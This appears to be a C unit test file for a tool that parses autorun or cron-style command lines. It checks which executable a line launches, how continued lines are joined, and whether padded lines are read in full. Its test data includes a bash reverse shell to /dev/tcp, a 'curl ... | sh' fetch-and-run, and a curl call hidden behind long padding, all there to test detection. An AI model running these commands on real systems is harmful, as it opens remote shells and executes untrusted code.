/*
 * autorun_test.c - which file a command line runs, and lines that go on.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <cmocka.h>

#include "../host/build.h"
#include "../util/buf.h"
#include "autorun.h"

static struct str target(const struct context *c, const char *command,
			 struct arena *scratch)
{
	struct parse p = { .ctx = c, .scratch = scratch };

	return autorun_target(&p, str_of(command));
}

static void the_file_a_command_runs(void **state)
{
	static const struct {
		const char *command, *want;
	} t[] = {
		{ "/opt/a --x /etc/b", "/opt/a" },
		{ "nohup nice -n 5 /opt/a &", "/opt/a" },
		{ "A=/x/y B=1 /opt/a", "/opt/a" },
		{ "PATH=\"/a/b\" /opt/a", "/opt/a" },
		{ "/bin/sh /opt/s.sh", "/opt/s.sh" },
		{ "/bin/sh -c '/dev/shm/.x &'", "/dev/shm/.x" },
		{ "python3 -u /opt/m.py", "/opt/m.py" },
		{ "/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1'",
		  "/bin/bash" },
		{ "test -x /usr/sbin/anacron || ( cd / && /opt/run )",
		  "/opt/run" },
		{ "[ -f /etc/default/a ] && . /etc/default/a",
		  "/etc/default/a" },
		{ "if [ -x /opt/a ]; then", "" },
		{ "echo /opt/a", "" },
		{ "echo hi; /tmp/x", "/tmp/x" },
		{ "/opt/a > /var/log/a 2>&1", "/opt/a" },
		{ "curl http://198.51.100.7/x | sh", "" },
		{ "export PATH=/a:/b", "" },
		{ "run 2>/dev/null", "" },
		{ "ssh -i /tmp/key host", "" },
		{ "rm -f /var/lib/.stamp; /opt/a", "/opt/a" },
		{ "\"/root/.acme.sh\"/acme.sh --cron",
		  "/root/.acme.sh/acme.sh" },
		{ "", "" },
		{ "'", "" },
	};
	struct arena a = { 0 };
	struct context c;

	(void)state;
	context_init(&c);
	context_finish(&c);
	for (size_t i = 0; i < sizeof(t) / sizeof(*t); i++) {
		struct str got = target(&c, t[i].command, &a);

		if (!str_is(got, t[i].want))
			fail_msg("%s: " STR_FMT, t[i].command, STR_ARG(got));
	}
	context_free(&c);
	arena_free(&a);
}

static void bare_names_by_the_walk(void **state)
{
	struct arena a = { 0 };
	struct context c;

	(void)state;
	context_init(&c);
	context_take(&c, STR("state/files.0000.jsonl"), STR(""),
		     STR("{\"p\":\"/usr/bin/curl\"}\n"
			 "{\"p\":\"/usr/local/bin/curl\"}\n"
			 "{\"p\":\"/usr/bin/bash\"}\n"));
	context_finish(&c);
	assert_true(str_is(target(&c, "curl http://x | sh", &a),
			   "/usr/local/bin/curl"));
	assert_true(str_is(target(&c, "bash -i", &a), "/usr/bin/bash"));
	assert_true(str_is(target(&c, "bash /opt/x", &a), "/opt/x"));
	assert_int_equal(target(&c, "wget http://x", &a).n, 0);
	context_free(&c);
	arena_free(&a);
}

static void lines_that_go_on(void **state)
{
	const struct str text = STR("a \\\n   b\\\nc\r\n\nlast \\");
	struct arena a = { 0 };
	struct text_line l;
	size_t at = 0;

	(void)state;
	assert_true(text_next_logical(text, &at, &l, STR_NONE, &a));
	assert_true(str_is(l.line, "a bc"));
	assert_true(text_next_logical(text, &at, &l, STR_NONE, &a));
	assert_int_equal(l.line.n, 0);
	assert_true(text_next_logical(text, &at, &l, STR_NONE, &a));
	assert_true(str_is(l.line, "last "));
	assert_int_equal(l.off, 14);
	assert_false(text_next_logical(text, &at, &l, STR_NONE, &a));
	at = 0;
	assert_true(text_next_logical(STR("b\\\nc"), &at, &l, STR(" "), &a));
	assert_true(str_is(l.line, "b c"));
	arena_free(&a);
}

static void long_lines_hide_nothing(void **state)
{
	struct buf b = { 0 };
	struct text_line l;
	size_t at = 0, n = 0;
	bool seen = false;

	(void)state;
	buf_puts(&b, "true;");
	for (int i = 0; i < 100000; i++)
		buf_c(&b, i % 50 ? 'x' : ' ');
	buf_puts(&b, " curl http://198.51.100.7/x\nnext");
	while (text_next(buf_view(&b), &at, &l)) {
		n += l.line.n;
		seen |= str_has(l.line, STR("curl http://198.51.100.7/x"));
		assert_true(l.line.n <= AUTORUN_MAX_LINE);
	}
	assert_int_equal(n, b.n - 1);
	assert_true(seen);
	buf_free(&b);
}

int main(void)
{
	const struct CMUnitTest test[] = {
		cmocka_unit_test(the_file_a_command_runs),
		cmocka_unit_test(bare_names_by_the_walk),
		cmocka_unit_test(lines_that_go_on),
		cmocka_unit_test(long_lines_hide_nothing),
	};

	return cmocka_run_group_tests(test, NULL, NULL);
}
